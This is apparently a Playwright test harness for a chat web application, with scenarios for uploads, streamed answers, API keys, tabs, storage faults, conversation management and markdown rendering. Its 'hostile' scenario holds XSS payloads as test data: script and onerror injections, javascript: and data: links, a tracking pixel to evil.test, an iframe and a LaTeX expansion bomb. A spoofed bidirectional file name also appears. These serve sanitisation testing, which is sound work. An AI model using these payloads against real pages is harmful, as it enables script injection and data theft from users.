// The web page in Chromium: `node page.mjs BROWSER`. Each line of its input is one run, {scenario, url, key, given}, in a
// fresh profile of one browser; each line of its output is what that run saw, or its `fault`.

import { createInterface } from "node:readline";
import {
  accessibilityFaults, ask, begin, deleteFirst, ended, inBrowser, lastAnswer, launched, linked, seeded, streamOf, until,
} from "./browser.mjs";
import { COPIES } from "./copies.mjs";
import { HANDS } from "./hands.mjs";
import { LOSSES } from "./losses.mjs";
import { OWNERS } from "./owners.mjs";
import { PICTURES } from "./pictures.mjs";

const FILE = "omber.md";
const FACT = "The lighthouse of Omber is painted in green stripes.\n";
const SHORT = { max_output_tokens: 8 }; // where an answer only has to end
const HOSTILE_NAME = "<img src=x onerror=alert(1)>.md";

const SCENARIOS = {
  ...COPIES,
  ...HANDS,
  ...LOSSES,
  ...OWNERS,
  ...PICTURES,

  // Upload, ask, watch the lanes, stop, retry, reload, find the conversation again.
  async journey(page, { url }) {
    const fields = await seeded(page);
    await page.goto(url);
    await linked(page);
    await page.click("#open-documents");
    await page.setInputFiles("#files", { name: FILE, mimeType: "text/markdown", buffer: Buffer.from(FACT) });
    await page.locator("#uploads [data-state=completed]", { hasText: FILE }).first().waitFor();
    const uploaded = await page.locator("#uploads .name").allTextContents();
    const faults = { documents: await accessibilityFaults(page) };
    await page.keyboard.press("Escape");

    await begin(page, "How is the lighthouse of Omber painted, and who is my landlord?");
    await page.waitForSelector(".answer [class^=lane-]"); // while it is written
    const busy = await page.locator("#stop").isVisible();
    await ended(page);
    const first = await lastAnswer(page);
    await page.locator(".source", { hasText: FILE }).first().click();
    const source = { title: await page.textContent("#source-title"), text: await page.textContent("#source-text") };
    faults.source = await accessibilityFaults(page);
    await page.keyboard.press("Escape");
    faults.light = await accessibilityFaults(page);
    await page.emulateMedia({ colorScheme: "dark" });
    faults.dark = await accessibilityFaults(page);
    await page.setViewportSize({ width: 360, height: 740 });
    faults.narrow = await accessibilityFaults(page);
    const wide = await page.evaluate(() => document.documentElement.scrollWidth);
    await page.click("#open-side");
    faults.menu = await accessibilityFaults(page);
    await page.keyboard.press("Escape");
    await page.setViewportSize({ width: 1200, height: 800 });

    Object.assign(fields, { max_output_tokens: 4000, ignore_eos: true });
    await begin(page, "And who else?");
    await page.waitForFunction(() => [...document.querySelectorAll(".answer")].at(-1).dataset.state === "writing");
    await page.waitForFunction(() => [...document.querySelectorAll(".answer")].at(-1).innerText.trim().length > 3);
    await page.keyboard.press("Escape");
    await ended(page);
    const stopped = await lastAnswer(page);
    // Polled until the server has noticed.
    await until(page, async () => (await (await fetch("readyz")).json()).answers === 0);
    await page.locator(".answer").last().getByLabel("Write it anew").click();
    await page.waitForFunction(() => [...document.querySelectorAll(".answer")].at(-1).dataset.state === "writing");
    await page.waitForFunction(() => [...document.querySelectorAll(".answer")].at(-1).innerText.trim().length > 3);
    const before = (await lastAnswer(page)).text;
    await page.reload(); // in mid-answer
    await linked(page);
    await page.waitForFunction((size) => [...document.querySelectorAll(".answer")].at(-1).innerText.trim().length > size + 3, before.length);
    const resumed = await lastAnswer(page);
    await page.keyboard.press("Escape");
    await ended(page);
    const versions = await page.locator(".answer").last().locator(".version").textContent();
    await page.locator(".answer").last().getByLabel("Version before").click();
    const turned = (await lastAnswer(page)).text;
    const kept = await page.locator(".question .words").allTextContents();
    const again = await page.evaluate(() => document.querySelector(".answer .words").innerText);
    await page.keyboard.press("Alt+n");
    const empty = await page.locator(".answer").count();
    await page.locator("#conversations .open").first().click();
    const found = await page.locator(".answer").count();
    await deleteFirst(page);
    await page.reload();
    await linked(page);
    const left = await page.locator("#conversations li").count();
    return { uploaded, busy, first, source, faults, wide, stopped, before, resumed, versions, turned, kept, again, empty, found, left };
  },

  // The settings reach the request, and stay.
  async settings(page, { url }) {
    const bodies = [];
    Object.assign(await seeded(page), { max_output_tokens: 4000, ignore_eos: true }); // there is time to stop it
    page.on("request", (request) => request.url().endsWith("/v1/responses") && bodies.push(request.postDataJSON()));
    await page.goto(url);
    await linked(page);
    await page.waitForFunction(() => document.querySelector("#model").options.length > 0);
    await page.selectOption("#privacy", "local-only");
    await page.click("#open-settings");
    await page.selectOption("#strategy", "autoregressive");
    await page.uncheck("[data-setting=documents]");
    await page.selectOption("#theme", "dark");
    await page.selectOption("#language", "de");
    await page.locator("#new", { hasText: "Neues Gespräch" }).waitFor();
    const faults = await accessibilityFaults(page);
    await page.keyboard.press("Escape");
    await page.reload();
    await linked(page);
    await page.waitForFunction(() => document.querySelector("#model").options.length > 0);
    await page.click("#open-options");
    await page.fill("#o-temperature", "0.5");
    await page.fill("#o-system", "Be brief.");
    faults.push(...(await accessibilityFaults(page)));
    await page.keyboard.press("Escape");
    await begin(page, "Anything?");
    await page.waitForSelector(".answer .words > *");
    await page.click("#stop");
    await ended(page);
    const back = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    const { state, text } = await lastAnswer(page);
    await page.click(".answer .on");
    await page.waitForFunction((size) => [...document.querySelectorAll(".answer")].at(-1).querySelector(".words").innerText.length > size, text.length);
    await page.click("#stop");
    await ended(page);
    return { bodies, faults, back, state, texts: [text, (await lastAnswer(page)).text] };
  },

  // A document that waits for its owner: confirmed by a key that may, and any other is told how.
  async confirms(page, { url, key, given }) {
    await seeded(page);
    await page.goto(url);
    await page.waitForSelector("#key[open]");
    await page.fill("#key-field", key);
    await page.keyboard.press("Enter");
    await page.waitForFunction(() => document.querySelector("#model").options.length > 0);
    await ask(page, given.question);
    const note = page.locator(".answer .note").first();
    const asked = (await note.count()) ? await note.innerText() : "";
    const faults = await accessibilityFaults(page);
    if (asked) await note.locator("button").click();
    if (given.may) await page.waitForSelector(".answer .source");
    else if (asked) await page.waitForFunction(() => !document.querySelector(".answer .note button"));
    const told = given.may || !asked ? "" : await note.innerText();
    return { asked, told, faults, sources: await page.locator(".source .name").allTextContents() };
  },

  // A server with keys: nothing but the page is there without one.
  async key(page, { url, key }) {
    await seeded(page);
    await page.goto(url);
    await page.waitForSelector("#key[open]");
    const faults = await accessibilityFaults(page);
    await page.fill("#key-field", "wrong");
    await page.keyboard.press("Enter");
    await page.waitForFunction(() => document.querySelector("#key-error").textContent);
    const refused = await page.textContent("#key-error");
    await page.fill("#key-field", key);
    await page.keyboard.press("Enter");
    await page.waitForSelector("#key:not([open])", { state: "attached" });
    await page.waitForFunction(() => document.querySelector("#model").options.length > 0);
    await ask(page, "Hello?");
    const answer = await lastAnswer(page);
    await page.click("#open-settings");
    await page.click("#change-key");
    await page.fill("#key-field", key);
    await page.keyboard.press("Enter");
    await page.waitForSelector("#key:not([open])", { state: "attached" });
    const same = await page.locator(".answer").count();
    const stored = await page.evaluate(() => [sessionStorage.length > 0, localStorage.getItem("paceline.key")]);
    await page.goto(new URL("dashboard", url).href);
    await page.waitForSelector(".panel"); // read with the key that the tab keeps
    await page.evaluate(() => sessionStorage.clear());
    await page.reload();
    await page.waitForSelector("#key[open]");
    faults.push(...(await accessibilityFaults(page)));
    await page.fill("#key-field", key);
    await page.keyboard.press("Enter");
    await page.waitForSelector(".panel");
    await page.goto(new URL("docs", url).href);
    await page.waitForSelector("#routes tr");
    const routes = await page.locator("#routes td:first-child").allTextContents();
    return { faults: [...faults, ...(await accessibilityFaults(page))], refused, answer, same, stored, routes };
  },

  // What a model, a document or a file's name may hold.
  async hostile(page, { url }) {
    const text = [
      "<script>alert(1)</script> <img src=//evil.test/a onerror=alert(2)>",
      "[a](javascript:alert(3)) [b](JaVaScRiPt:alert(4)) [c](data:text/html,<script>alert(5)</script>) [d](/v1/models)",
      "![spy](https://evil.test/pixel?secret) <iframe src=https://evil.test></iframe>",
      "[good](https://example.org/a_(b)) and https://example.org/c. `<b>`",
      "```html\n<style>body{display:none}</style>\n```",
      `$$\\def\\x#1{${"#1".repeat(200)}}${`\\x{${"a".repeat(200)}}`.repeat(60)}$$`, // millions of nodes, were it followed
      "Covered: $\\rule{400em}{1em}$",
    ].join("\n\n");
    const report = {
      strategy: "<b>bold</b>",
      citations: [{ side: "cloud", document: HOSTILE_NAME, passage: "<svg onload=alert(6)>", score: 0.5 }],
    };
    const body = streamOf([...text].map((char) => [char, "cloud"]), { paceline: report });
    const asked = [];
    await page.route("**/v1/responses", (route) => {
      asked.push(route.request().postDataJSON().input.at(-1).content);
      route.fulfill({ contentType: "text/event-stream", body });
    });
    const documents = [{ name: HOSTILE_NAME, passages: 1, topic: "<b>t", question: "<img src=x onerror=alert(8)>?" }, { name: HOSTILE_NAME, passages: 1, topic: "<b>t", question: null }];
    await page.route("**/v1/documents", (route) => route.fulfill({ json: { object: "list", side: "cloud", total: 2, data: documents } }));
    await page.goto(url);
    await linked(page);
    const cards = page.locator(".suggestions button");
    await cards.nth(1).waitFor();
    const suggested = { shown: await cards.locator("span").allTextContents(), early: asked.length };
    await cards.last().click();
    await ended(page);
    suggested.asked = [...asked];
    await page.keyboard.press("Alt+n");
    await page.click("#open-documents");
    await page.setInputFiles("#files", { name: HOSTILE_NAME, mimeType: "text/markdown", buffer: Buffer.from(FACT) });
    const row = page.locator("#uploads [data-state=completed]", { hasText: HOSTILE_NAME });
    const name = await row.locator(".name").textContent();
    await row.locator("button").click();
    await page.keyboard.press("Escape");
    await ask(page, "<img src=x onerror=alert(7)>");
    const answer = await lastAnswer(page);
    const links = await page.evaluate(() => [...document.querySelectorAll(".words a")].map((each) => [each.href, each.rel]));
    await page.waitForSelector(".formula math", { state: "attached" });
    const formulas = await page.evaluate(() => [...document.querySelectorAll(".formula")].map((each) => each.querySelectorAll("*").length));
    const clipped = await page.evaluate(() => document.querySelector("#messages").scrollWidth === document.querySelector("#messages").clientWidth);
    // A file whose messages stand in a circle, with fields of any type.
    const imported = await page.evaluate(async () => {
      const { fromJson, turnTo, pathOf } = await import("/page/conversation.js");
      const message = (id, parent) => ({ role: "assistant", id, parent, text: id, steps: 1, lanes: 2, report: [], state: "?", onclick: "x" });
      const messages = [message("a", "b"), message("b", "a"), message("a", "a")];
      const [found] = fromJson(JSON.stringify({ kind: "paceline conversations", version: 1, conversations: [{ title: 1, messages, leaf: "b" }] }));
      const [plain] = fromJson(JSON.stringify({ kind: "paceline conversations", version: 1, conversations: [{ title: "", messages: ["a", "b", "c"].map((text) => ({ role: "user", text })) }] }));
      const circle = { messages: [message("a", "b"), message("b", "a")], leaf: "a", changed: {} };
      turnTo(circle, circle.messages[0]);
      const [{ steps, lanes, state, onclick = "" }] = found.messages;
      return { path: pathOf(found).map(({ text }) => text), ids: new Set(found.messages.map(({ id }) => id)).size, first: [steps, lanes, state, onclick], plain: pathOf(plain).map(({ text }) => text) };
    });
    const made = await page.evaluate(() => document.querySelectorAll("#messages :is(script, img, iframe, style, svg:not(.icon), b)").length);
    const title = await page.textContent("#title");
    await page.locator(".source").click();
    const source = { title: await page.textContent("#source-title"), text: await page.textContent("#source-text") };
    const assigned = await page.evaluate(() => {
      try {
        document.body.innerHTML = "<p>x</p>";
        return true;
      } catch {
        return false; // the policy allows no HTML from scripts
      }
    });
    return { suggested, name, answer, links, made, formulas, clipped, imported, title, source, assigned };
  },

  // A conversation that is deleted before its answer has begun; then two conversations, answered beside each other.
  async beside(page, { url }) {
    await page.route("**/v1/responses", () => {}); // mute
    await page.clock.install();
    await page.goto(url);
    await linked(page);
    const writing = () => page.waitForSelector(".answer[data-state=writing]");
    await begin(page, "A secret?");
    await writing();
    await page.clock.fastForward(5000); // long enough that what arrives next would be kept
    await deleteFirst(page);
    await page.waitForSelector("#stop", { state: "hidden" });
    await page.reload();
    await linked(page);
    const left = await page.locator("#conversations li", { hasText: "A secret?" }).count();
    await begin(page, "One?");
    await writing();
    await page.keyboard.press("Alt+n");
    const free = await page.locator("#send").isVisible();
    await begin(page, "Two?");
    await writing();
    const two = await page.locator(".question .words").allTextContents();
    await page.click("#stop");
    await page.waitForSelector(".answer[data-state=stopped]");
    await page.locator("#conversations .open", { hasText: "One?" }).click();
    const first = (await lastAnswer(page)).state;
    await page.reload(); // keeps both
    await linked(page);
    return { left, free, two, first, kept: await page.locator("#conversations .open").allTextContents() };
  },

  // An answer that is being written when another browser looks, which has never seen the conversation.
  async elsewhere(page, { url }) {
    const fields = await seeded(page);
    await page.goto(url);
    await linked(page);
    await page.waitForFunction(() => document.querySelector("#model").options.length > 0);
    await ask(page, "How is the lighthouse of Omber painted, and who is my landlord?");
    const first = await lastAnswer(page);
    Object.assign(fields, { max_output_tokens: 4000, ignore_eos: true });
    await begin(page, "And who else?");
    await page.waitForFunction(() => [...document.querySelectorAll(".answer")].at(-1).innerText.trim().length > 3);
    const context = await page.context().browser().newContext();
    try {
      const other = await context.newPage();
      await other.goto(url);
      await other.locator("#conversations .open").first().click();
      await other.waitForFunction(() => document.querySelectorAll(".answer [class^=lane-]").length > 0 && !document.querySelector("#stop").hidden);
      const text = (await lastAnswer(other)).text;
      await other.locator(".answer").first().locator(".source").first().waitFor(); // its report has been fetched
      await other.waitForFunction((size) => [...document.querySelectorAll(".answer")].at(-1).innerText.trim().length > size, text.length + 3);
      await other.click("#stop");
      await ended(other);
      await ended(page); // where it was asked
      const sources = await other.locator(".answer").first().locator(".source .name").allTextContents();
      const texts = [(await lastAnswer(page)).text, (await lastAnswer(other)).text];
      await deleteFirst(page);
      await until(page, async () => {
        const { data } = await (await fetch("v1/conversations")).json();
        return data.length === 1 && data[0].metadata.made_by === "paceline page: deleted";
      });
      await other.evaluate(() => window.dispatchEvent(new Event("focus")));
      await other.waitForFunction(() => !document.querySelector("#conversations li") && !document.querySelector(".answer"));
      return { first, sources, texts };
    } finally {
      await context.close();
    }
  },

  // Rename, pin, search, edit, export, delete and import, beside 200 other conversations; a file of one of them.
  async manage(page, { url }) {
    const written = "**So** $c = \\sqrt{g h}$:\n\n```python\ndef f():\n    return 1\n```\n\n$$\n\\frac{1}{2}\n$$";
    const bodies = [];
    await page.addInitScript(() => { // a machine with voices
      window.said = [];
      const local = { lang: "en-GB", localService: true };
      Object.defineProperty(window, "SpeechSynthesisUtterance", { value: class { constructor(text) { this.text = text; } } });
      Object.defineProperty(window, "speechSynthesis", { value: { getVoices: () => [{ lang: "en", localService: false }, local], cancel() {}, speak: ({ text, voice }) => window.said.push([text, voice === local]) } });
    });
    await page.route("**/v1/responses", (route) => {
      bodies.push(route.request().postDataJSON());
      return route.fulfill({ contentType: "text/event-stream", body: streamOf([[written, "cloud"]], { usage: { output_tokens: 3, total_tokens: 1000 } }) });
    });
    await page.goto(url);
    await linked(page);
    await page.waitForFunction(() => document.querySelector("#model").options.length > 0);
    await page.click("#open-settings");
    await page.selectOption("#keep", "browser");
    const messages = (id) => [{ id: `q${id}`, parent: null, role: "user", text: `Question ${id}` }, { id: `a${id}`, parent: `q${id}`, role: "assistant", text: `Answer ${id}` }];
    const many = Array.from({ length: 200 }, (_, id) => ({ title: `Old ${id}`, updated: 1e12 + id, messages: messages(id) }));
    const file = { name: "a.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify({ kind: "paceline conversations", version: 1, conversations: many })) };
    await page.setInputFiles("#import-file", file);
    await page.waitForFunction(() => document.querySelectorAll("#conversations li").length === 200);
    await page.keyboard.press("Alt+n");
    await page.setInputFiles("#attach-files", { name: "tide.md", mimeType: "text/markdown", buffer: Buffer.from("The tide is high at noon.") });
    await page.waitForSelector("#attached [data-state=completed]");
    await ask(page, "How fast is a wave?");
    await page.waitForSelector(".answer .hljs-keyword");
    await page.waitForSelector(".answer .formula.display math");
    const rich = await page.locator(".answer math").count();
    await page.getByLabel("Read aloud").click();
    const said = await page.evaluate(() => window.said);
    const summary = await page.textContent(".foot .summary");
    await page.locator(".question").hover();
    await page.getByLabel("Edit").click();
    await page.keyboard.press("Control+A");
    await page.keyboard.type("How slow is a wave?");
    await page.keyboard.press("Enter");
    await ended(page);
    const edited = [await page.textContent(".question .words"), await page.textContent(".version")];
    await page.fill("#search", "answer 17");
    const found = await page.locator("#conversations .open").allTextContents();
    await page.locator("#conversations li").first().hover();
    await page.locator("#conversations .more").first().click();
    const faults = await accessibilityFaults(page); // of so few conversations as are found
    await page.keyboard.press("Escape");
    await page.fill("#search", "");
    await page.locator("#conversations li").first().hover();
    await page.locator("#conversations .more").first().click();
    await page.click("#menu [data-do=pin]");
    const top = await page.locator("#conversations h2").first().textContent();
    const saved = async (name) => {
      const [download] = await Promise.all([page.waitForEvent("download"), name()]);
      const chunks = [];
      for await (const chunk of await download.createReadStream()) chunks.push(chunk);
      return Buffer.concat(chunks).toString();
    };
    await page.locator("#conversations .more").first().click();
    const markdown = await saved(() => page.click("#menu [data-do=exportMarkdown]"));
    await page.locator("#conversations .more").first().click();
    const json = await saved(() => page.click("#menu [data-do=exportJson]"));
    await deleteFirst(page);
    const left = await page.evaluate(async () => { // its file goes with it
      const names = async () => (await (await fetch("v1/files")).json()).data.map(({ filename }) => filename);
      const stores = async () => (await (await fetch("v1/vector_stores")).json()).data.filter(({ metadata }) => metadata?.conversation);
      for (let tries = 50; tries && ((await names()).includes("tide.md") || (await stores()).length); tries -= 1) await new Promise((resolve) => setTimeout(resolve, 100));
      return [(await names()).includes("tide.md"), (await stores()).length];
    });
    await page.setInputFiles("#import-file", { name: "b.json", mimeType: "application/json", buffer: Buffer.from(json) });
    await page.waitForSelector(".question");
    const again = [await page.textContent(".question .words"), await page.textContent(".version")];
    const kept = await page.evaluate(async () => (await (await fetch("v1/conversations")).json()).data.length);
    return { bodies, rich, said, summary, edited, faults, found, top, markdown, left, again, kept };
  },

  // One conversation in two tabs, asked in turns.
  async tabs(page, { url }) {
    const other = await page.context().newPage();
    for (const each of [page, other]) Object.assign(await seeded(each), SHORT);
    await page.goto(url);
    await linked(page);
    await ask(page, "One?");
    await other.goto(url);
    await other.locator("#conversations .open").first().click();
    await ask(page, "Two?");
    await ask(other, "Three?");
    await page.reload();
    await page.waitForSelector(".question");
    return { questions: await page.locator(".question .words").allTextContents() };
  },

  // A browser that keeps nothing: its storage is forbidden, or full, or holds what nobody has written.
  async storage(page, { url, given }) {
    await page.addInitScript((kind) => {
      if (kind === "full") Storage.prototype.setItem = () => { throw new DOMException("full", "QuotaExceededError"); };
      if (kind === "damaged" && !localStorage.length) {
        localStorage.setItem("paceline.unfinished", "{");
        localStorage.setItem("paceline.settings", "7");
      }
      if (kind !== "forbidden") return;
      for (const name of ["localStorage", "sessionStorage", "indexedDB"]) {
        Object.defineProperty(window, name, { get() { throw new DOMException("denied", "SecurityError"); } });
      }
    }, given);
    Object.assign(await seeded(page), SHORT);
    let told;
    const asked = new Promise((resolve) => { told = resolve; });
    await page.route("**/v1/models", async (route) => { await asked; await route.continue(); }); // a question is faster
    await page.goto(url);
    await linked(page);
    const kept = page.waitForResponse((each) => each.url().endsWith("/items") && each.request().method() === "POST");
    await begin(page, "Hello?");
    told();
    await ended(page);
    const answer = await lastAnswer(page);
    await kept;
    await page.reload();
    await linked(page);
    await page.waitForSelector("#conversations li");
    return { answer, kept: await page.locator("#conversations li").count() };
  },

  // More documents than one list of the server's holds; uploads that a proxy answers; names that turn what follows.
  async crowd(page, { url }) {
    await page.goto(url);
    await linked(page);
    const body = (value) => ({ method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(value) });
    await page.evaluate(async (body) => {
      const post = async (path, sent) => (await fetch(path, sent)).json();
      const { id } = await post("v1/vector_stores", body.store);
      const file_ids = [];
      for (let number = 0; number < 103; number += 1) {
        const form = new FormData();
        form.append("purpose", "assistants");
        form.append("file", new File([`Fact ${number}.`], `${number}.md`));
        file_ids.push((await post("v1/files", { method: "POST", body: form })).id);
      }
      await post(`v1/vector_stores/${id}/file_batches`, { ...body.store, body: JSON.stringify({ file_ids }) });
    }, { store: body({ name: "Many", metadata: { made_by: "paceline page" } }) });
    await page.click("#open-documents");
    await page.waitForFunction(() => document.querySelectorAll("#uploads li").length > 100);
    const rows = await page.locator("#uploads li").count();
    await page.route("**/v1/files", (route) => route.fulfill({ contentType: "text/html", body: "<html>Log in" }));
    await page.setInputFiles("#files", { name: "a.md", mimeType: "text/markdown", buffer: Buffer.from(FACT) });
    await page.waitForSelector("#uploads [data-state=failed]");
    const told = await page.locator("#uploads [data-state=failed] .state").textContent();
    const source = await page.evaluate(async () => {
      const { AnswerView } = await import("/page/answer.js");
      const report = { citations: [{ side: "device", document: "\u202egnp.exe\u2066", passage: "" }] };
      const answer = { role: "assistant", text: "", lanes: "", state: "done", steps: [], report, usage: null };
      const view = new AnswerView(answer, { versions: () => [] });
      view.show();
      return view.node.querySelector(".source").textContent;
    });
    await page.route("**/metrics", (route) => route.fulfill({ contentType: "text/html", body: "<html>Log in" }));
    await page.goto(`${url}dashboard`);
    await page.locator("#told", { hasText: "perhaps" }).waitFor();
    return { rows, told, source, metrics: await page.textContent("#told") };
  },

  // Texts as they arrive, in pieces of any size: after each the nodes are those of the text at once, and in all not many more
  // are made than the text has. given: {pieces, rounds, long}, of which so many texts are put together, and long ones of one kind.
  async streamed(page, { url, given }) {
    await page.goto(url);
    return page.evaluate(async ({ pieces, rounds, long }) => {
      const { renderMarkdown } = await import("/page/markdown.js");
      const { Run } = await import("/page/run.js");
      let seed = 1;
      const below = (most) => (seed = (seed * 48271) % 2147483647) % most;
      const shown = (run, box = document.createElement("div")) => {
        while (!renderMarkdown(box, run)); // what took too long goes on the next time
        return box;
      };
      const lanesOf = (size) => {
        let lanes = "";
        while (lanes.length < size) lanes += "cd."[below(3)].repeat(1 + below(9));
        return lanes.slice(0, size);
      };
      const unlike = [];
      let cuts = 0;
      for (let round = 0; round < rounds; round += 1) {
        let text = "";
        while (text.length < 250) text += pieces[below(pieces.length)].slice(0, 60) + ["", " ", "\n", "\n\n", "\n  "][below(5)];
        const run = new Run(text, lanesOf(text.length));
        const box = document.createElement("div");
        for (let end = 0; end < text.length; cuts += 1) {
          end = Math.min(text.length, end + 1 + below(24));
          if (!shown(run.slice(0, end), box).isEqualNode(shown(run.slice(0, end)))) unlike.push([text.slice(0, end), box.innerHTML]);
        }
      }
      const made = long.map((text) => {
        const run = new Run(text, lanesOf(text.length));
        const box = document.createElement("div");
        let count = 0;
        const seen = new MutationObserver(() => {});
        seen.observe(box, { childList: true, subtree: true });
        const nodesOf = (node) => 1 + [...node.childNodes].reduce((sum, each) => sum + nodesOf(each), 0);
        for (let end = 0; end < text.length; ) {
          end = Math.min(text.length, end + 12);
          shown(run.slice(0, end), box);
          for (const { addedNodes } of seen.takeRecords()) for (const node of addedNodes) count += nodesOf(node);
        }
        return count / nodesOf(box);
      });
      return { cuts, unlike: unlike.slice(0, 3), made };
    }, given);
  },

  // Markdown to HTML, of the given cases.
  async markdown(page, { url, given }) {
    await page.goto(url);
    const rendered = await page.evaluate(async (cases) => {
      const { renderMarkdown } = await import("/page/markdown.js");
      const { Run } = await import("/page/run.js");
      return cases.map(([text, lanes]) => {
        const box = document.createElement("div");
        const whole = () => {
          while (!renderMarkdown(box, new Run(text, lanes ?? undefined))); // what took too long goes on the next time
        };
        whole();
        const html = box.innerHTML;
        for (let end = 0; end < Math.min(text.length, 400); end += 7) renderMarkdown(box, new Run(text.slice(0, end)));
        whole(); // grown piece by piece it is the same
        return box.innerHTML === html ? html : `unlike what was rendered at once: ${box.innerHTML}`;
      });
    }, given);
    const slow = await page.evaluate(async () => {
      const { renderMarkdown } = await import("/page/markdown.js");
      const { Run } = await import("/page/run.js");
      const box = document.createElement("div");
      const text = "```\nx\n```\n".repeat(200);
      const now = performance.now;
      let ticks = 0;
      performance.now = () => (ticks += 10); // each look at the clock takes 10 ms
      renderMarkdown(box, new Run(text));
      const [early, plain] = ["figure", "div"].map((name) => box.querySelectorAll(`:scope > ${name}`).length);
      performance.now = () => ticks; // and now none
      renderMarkdown(box, new Run(text));
      performance.now = now;
      return { early: early > 0 && plain > 0 && early + plain === 200, later: box.querySelectorAll("figure").length };
    });
    return { rendered, slow };
  },
};

const browser = await launched(process.argv[2]);
for await (const line of createInterface({ input: process.stdin })) {
  const run = JSON.parse(line);
  const seen = inBrowser(browser, run.url, (page) => SCENARIOS[run.scenario](page, run));
  console.log(JSON.stringify(await seen.catch((error) => ({ fault: String(error.stack) }))));
}
await browser.close();
